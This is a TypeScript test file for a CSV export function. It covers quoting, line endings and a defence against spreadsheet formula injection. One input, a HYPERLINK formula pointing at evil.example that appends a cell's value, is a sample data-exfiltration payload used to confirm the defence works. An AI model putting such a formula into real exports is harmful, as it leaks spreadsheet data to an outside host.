import { expect, test } from 'vitest';
import type { Cell } from '../../src/outputs/data/table.ts';
import { toCsv } from '../../src/outputs/data/to-csv.ts';

const columns = ['id', 'text'].map((name) => ({ name, meaning: '' }));
const written = (...rows: Cell[][]): string => toCsv({ name: 'table', meaning: '', columns, rows });

test('a table begins with a byte order mark and its column names, and its lines end like RFC 4180 has it', () => {
  expect(written(['a', 'b'])).toBe('\uFEFFid,text\r\na,b\r\n');
});

test('a table without rows has its column names all the same', () => {
  expect(written()).toBe('\uFEFFid,text\r\n');
});

test.each<[string, Cell, string]>([
  ['a comma', 'a, b', '"a, b"'],
  ['a quotation mark', 'the "crane"', '"the ""crane"""'],
  ['a line end', 'a\nb', '"a\nb"'],
  ['a line end of Windows', 'a\r\nb', '"a\r\nb"'],
  ['a carriage return', 'a\rb', '"a\rb"'],
])('a cell with %s is quoted', (_what, cell, expected) => {
  expect(written(['a', cell])).toBe(`\uFEFFid,text\r\na,${expected}\r\n`);
});

test.each<[Cell, string]>([
  [true, 'true'],
  [false, 'false'],
  [0, '0'],
  [undefined, ''],
  ['', ''],
  ['Zoë 集装箱', 'Zoë 集装箱'],
  [' a ', ' a '],
])('the cell %j is written as it is', (cell, expected) => {
  expect(written(['a', cell])).toBe(`\uFEFFid,text\r\na,${expected}\r\n`);
});

test.each(['=1+1', '+1', '-1', '@SUM(A1)', '\t=1', '=HYPERLINK("https://evil.example/?"&A1)'])(
  'no spreadsheet takes the text %j for a formula',
  (cell) => {
    const [, row = ''] = written(['a', cell]).split('\r\n');
    expect(row.replace(/^a,"?/, '')).toMatch(/^'/);
    expect(row.replaceAll('""', '"')).toContain(cell);
  },
);

test('a number that is below nought is none', () => {
  expect(written(['a', -1])).toBe('\uFEFFid,text\r\na,-1\r\n');
});
